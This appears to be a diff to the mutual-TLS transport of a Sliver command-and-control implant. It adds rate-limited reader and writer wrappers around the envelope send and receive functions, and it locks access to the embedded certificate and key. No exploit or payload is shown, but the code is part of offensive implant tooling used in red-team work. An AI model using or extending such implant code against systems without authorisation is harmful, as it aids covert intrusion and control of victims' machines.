@@ -49,10 +49,11 @@ func socketWriteEnvelope(connection *tls.Conn, envelope *pb.Envelope) error {
 		// {{end}}
 		return err
 	}
+	writer := &throttledWriter{writer: connection, limiters: envelopeLimiters(envelope)}
 	dataLengthBuf := new(bytes.Buffer)
 	binary.Write(dataLengthBuf, binary.LittleEndian, uint32(len(data)))
-	connection.Write(dataLengthBuf.Bytes())
-	connection.Write(data)
+	writer.Write(dataLengthBuf.Bytes())
+	writer.Write(data)
 	return nil
 }
 
@@ -69,11 +70,12 @@ func socketReadEnvelope(connection *tls.Conn) (*pb.Envelope, error) {
 	dataLength := int(binary.LittleEndian.Uint32(dataLengthBuf))
 
 	// Read the length of the data
+	reader := &throttledReader{reader: connection, limiters: []*limiter{sessionLimiter}}
 	readBuf := make([]byte, readBufSize)
 	dataBuf := make([]byte, 0)
 	totalRead := 0
 	for {
-		n, err := connection.Read(readBuf)
+		n, err := reader.Read(readBuf)
 		dataBuf = append(dataBuf, readBuf[:n]...)
 		totalRead += n
 		if totalRead == dataLength {
@@ -115,7 +117,10 @@ func tlsConnect(address string, port uint16) (*tls.Conn, error) {
 
 func getTLSConfig() *tls.Config {
 
-	certPEM, err := tls.X509KeyPair([]byte(certPEM), []byte(keyPEM))
+	secretsMutex.RLock()
+	defer secretsMutex.RUnlock()
+
+	certPEM, err := tls.X509KeyPair(certPEM, keyPEM)
 	if err != nil {
 		// {{if .Debug}}
 		log.Printf("Cannot load sliver certificate: %v", err)
@@ -125,7 +130,7 @@ func getTLSConfig() *tls.Config {
 
 	// Load CA cert
 	caCertPool := x509.NewCertPool()
-	caCertPool.AppendCertsFromPEM([]byte(caCertPEM))
+	caCertPool.AppendCertsFromPEM(caCertPEM)
 
 	// Setup config with custom certificate validation routine
 	tlsConfig := &tls.Config{